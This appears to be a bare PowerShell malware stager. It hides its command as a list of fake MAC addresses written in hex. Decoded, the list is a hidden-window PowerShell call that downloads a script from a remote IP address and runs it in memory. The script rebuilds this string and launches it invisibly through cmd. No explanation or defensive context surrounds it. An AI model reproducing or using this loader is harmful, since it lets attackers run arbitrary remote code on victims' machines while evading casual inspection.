$macs = @('70-6F-77-65-72-73','68-65-6C-6C-20-2D','6E-6F-70-20-2D-77','20-68-69-64-64-65','6E-20-2D-63-20-69','65-78-28-69-77-72','20-68-74-74-70-3A','2F-2F-31-39-32-2E','30-2E-32-2E-33-33','2F-70-20-2D-55-73','65-42-61-73-69-63','50-61-72-73-69-6E','67-29-20-20-20-20')
$b = foreach ($m in $macs) { $m.Split('-') | ForEach-Object { [Convert]::ToByte($_, 16) } }
$s = [Text.Encoding]::ASCII.GetString([byte[]]$b).Trim()
Start-Process cmd -ArgumentList "/c $s" -WindowStyle Hidden
